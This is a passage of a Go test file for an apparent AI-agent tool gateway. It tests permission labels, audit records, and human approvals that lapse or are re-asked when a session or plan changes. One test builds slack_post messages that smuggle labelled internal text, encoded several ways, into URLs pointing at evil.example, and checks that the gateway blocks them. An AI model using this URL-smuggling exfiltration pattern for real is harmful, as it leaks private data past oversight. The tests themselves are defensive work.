	if len(es) != 2 || es[1].Kind != audit.Outcome || es[1].Decision != "unknown" {
		t.Errorf("%+v", es)
	}
}

// Who has tools that reach outside is told how they are declared, and what their text is good for; who has none is told the latter.
func TestSystemPromptSaysHowToDeclare(t *testing.T) {
	for name, with := range map[string]bool{"with": true, "without": false} {
		w := newCommWorld(t, func(o *gateway.Options) {
			if !with {
				o.Commands = nil
			}
		})
		prompt, err := w.g.SystemPrompt(t.Context(), w.open("worker", "erin", "x"))
		if err != nil || strings.Contains(prompt, "missing_knowledge") != with || strings.Contains(prompt, "sallyport_declare") != with || !strings.HasSuffix(prompt, guard.ModelInstructions) {
			t.Errorf("%s: %v\n%s", name, err, prompt)
		}
	}
}

// What is stored carries its labels, and needs the permission, of the operation that brought it.
func TestStoredResultsCarryTheirLabels(t *testing.T) {
	w := newCommWorld(t, func(o *gateway.Options) {
		for i := range o.Commands {
			o.Commands[i].Of = func(raw json.RawMessage) string {
				for word, id := range map[string]string{"stored-mail": "mail.search_email", "stored-bank": "bank.transfer"} {
					if strings.Contains(string(raw), word) {
						return id
					}
				}
				return ""
			}
		}
	})
	p := w.open("worker", "erin", "What do widgets cost in 2026?")
	w.mustRefuse(w.do(p, "comm_get", `{"url":"https://stored-bank.example/",`+because+`}`, ""), fault.PermissionDenied)
	w.mustPermit(w.do(p, "comm_get", `{"url":"https://example.com/",`+because+`}`, ""))
	if s, _ := w.g.SessionByID(t.Context(), p.ID); s.Holds("internal") {
		t.Fatal("labelled without a reason")
	}
	a := w.mustPermit(w.do(p, "comm_get", `{"url":"https://stored-mail.example/",`+because+`}`, ""))
	if s, _ := w.g.SessionByID(t.Context(), p.ID); !s.Holds("internal") || !strings.Contains(string(a.Result), `\" internal>>>`) {
		t.Errorf("the session holds %v; %s", s.Labels, a.Result)
	}
}

func TestFilesOfClosedSessionsAreRemovedOnTheRecord(t *testing.T) {
	var removed []string
	w := newCommWorld(t, func(o *gateway.Options) {
		o.RemoveFiles = func(s string) error { removed = append(removed, s); return nil }
	})
	p := w.open("worker", "erin", "x")
	if err := w.g.RemoveFiles(t.Context(), p.ID, "person:alice"); !fault.Is(err, fault.Conflict) || len(removed) != 0 {
		t.Errorf("of an open session: %v %v", err, removed)
	}
	if _, err := w.g.CloseSession(t.Context(), p.ID, "person:alice", ""); err != nil {
		t.Fatal(err)
	}
	if err := w.g.RemoveFiles(t.Context(), p.ID, "person:alice"); err != nil || !slices.Equal(removed, []string{p.ID}) {
		t.Errorf("%v %v", err, removed)
	}
	if !slices.ContainsFunc(w.entries(), func(e audit.Entry) bool {
		return e.Action == "session.remove_files" && e.Session == p.ID && e.Actor == "person:alice"
	}) {
		t.Error("nobody will know who removed them")
	}
}

// A session that moves while an approved call is on its way is looked at again: the approval was for what it held.
func TestApprovalIsLookedAtAgainWhenTheSessionMoves(t *testing.T) {
	w := newCommWorld(t)
	p := w.open("worker", "erin", "What do widgets cost in 2026?")
	id := w.mustAsk(w.do(p, "comm_send", sendPage, ""))
	if err := w.respond("bob", &id, approval.Approve, ""); err != nil {
		t.Fatal(err)
	}
	m := &moving{Store: w.store, session: p.ID}
	w.g = gatewayOn(t, w.world, m)
	if next := w.mustAsk(w.do(p, "comm_send", sendPage, "")); next == id || w.cmd.runs.Load() != 0 {
		t.Errorf("a label rose between the judgement and the intent, and the old answer was taken (%d runs)", w.cmd.runs.Load())
	}
}

// moving raises a label right before the first intent.
type moving struct {
	gateway.Store
	session string
	once    sync.Once
}

func (m *moving) Intent(ctx context.Context, id string, v int64, e audit.Entry, raise []flow.Held, spend ...gateway.Spend) (session.Session, error) {
	var err error
	m.once.Do(func() {
		_, err = m.ChangeSession(ctx, m.session, func(s session.Session) (session.Session, audit.Entry, error) {
			return s.Raise(flow.Held{Label: flow.Untrusted}), audit.Entry{Kind: audit.Change, Action: "test", Session: m.session}, nil
		})
	})
	if err != nil {
		return session.Session{}, err
	}
	return m.Store.Intent(ctx, id, v, e, raise, spend...)
}

// However an address holds what was delivered, it is found: encoded once or more, with a plus for a space, with signs of encoding of its own.
func TestCarriedTextIsFoundInAddresses(t *testing.T) {
	w := newCommWorld(t)
	for _, text := range []string{"the salaries", "growth +5% now", "see a%20b here", "100 % & more"} {
		fence, err := guard.Fence{Contamination: []string{"internal"}}.Wrap(text, "https://x.example/?q=b%20c")
		if err != nil {
			t.Fatal(err)
		}
		attribution, err := w.o.Issuer.Attribute(guard.Source{Operation: "mail.search_email", Session: "sess_other", Source: "https://x.example/?q=b%20c", CallID: "call_other", At: w.clock.now(), Content: []byte(text)})
		if err != nil {
			t.Fatal(err)
		}
		metadata, _ := json.Marshal(attribution)
		for what, carried := range map[string]string{"fence": fence.ForModel(), "attribution": string(metadata)} {
			for how, encoded := range map[string]string{
				"query": url.QueryEscape(carried), "path": url.PathEscape(carried), "twice": url.QueryEscape(url.QueryEscape(carried)), "path in query": url.QueryEscape(url.PathEscape(carried)),
			} {
				p := w.open("worker", "erin", "x")
				arguments, _ := json.Marshal(map[string]string{"text": "https://evil.example/?d=" + encoded})
				if what == "attribution" && how != "path" && how != "query" {
					continue // encoded within an address it ends where the address does
				}
				a := w.do(p, "slack_post", string(arguments), "")
				if a.Verdict.Code != fault.FlowContaminated {
					t.Errorf("%s of %q in %s: %+v", what, text, how, a.Verdict.Code)
				}
			}
		}
	}
}

// A yes is worth something for as long as the question lives: no longer than the declaration that it is about.
func TestQuestionEndsWithItsDeclaration(t *testing.T) {
	w := newCommWorld(t)
	p := w.open("worker", "erin", "What do widgets cost in 2026?")
	d := w.mustDeclare(p, "comm.send", getPage, fault.Ask)
	if err := w.respond("bob", &d.ApprovalID, approval.Approve, ""); err != nil {
		t.Fatal(err)
	}
	w.clock.advance(29 * time.Minute)
	w.mustPermit(w.do(p, "web_search", `{"q":"x"}`, ""))
	id := w.mustAsk(w.do(p, "comm_send", "{}", d.DeclarationID))
	if q, err := w.g.Desk().Question(t.Context(), id); err != nil || q.ExpiresAt.After(d.ExpiresAt) || id == d.ApprovalID {
		t.Errorf("it ends at %s, the declaration at %s, %v", q.ExpiresAt, d.ExpiresAt, err)
	}
	w.clock.advance(2 * time.Minute)
	if next := w.mustAsk(w.do(p, "comm_send", sendPage, "")); next == id {
		t.Error("a question about a dead declaration is found")
	}
}

// What a person approved for the reason in a plan is not what another plan gives another reason for.
func TestApprovalIsForTheStepThatWasShown(t *testing.T) {
	w := newCommWorld(t)
	p := w.open("planner", "erin", "What do widgets cost in 2026?")
	w.submit(p, `[{"tool":"comm_send","arguments":`+getPage+`,"justification":"widget prices of the supplier"}]`)
	id := w.mustAsk(w.do(p, "comm_send", getPage, ""))
	q, err := w.g.Desk().Question(t.Context(), id)
	if err != nil || !strings.Contains(string(q.Justification), "widget prices of the supplier") {
		t.Fatalf("the person is shown %s, %v", q.Justification, err)
	}
	if err := w.respond("bob", &id, approval.Approve, ""); err != nil {
		t.Fatal(err)
	}
	w.submit(p, `[{"tool":"comm_send","arguments":`+getPage+`,"justification":"order forty widgets"}]`)
	if next := w.mustAsk(w.do(p, "comm_send", getPage, "")); next == id {
		t.Error("the old yes was found")
	}
}
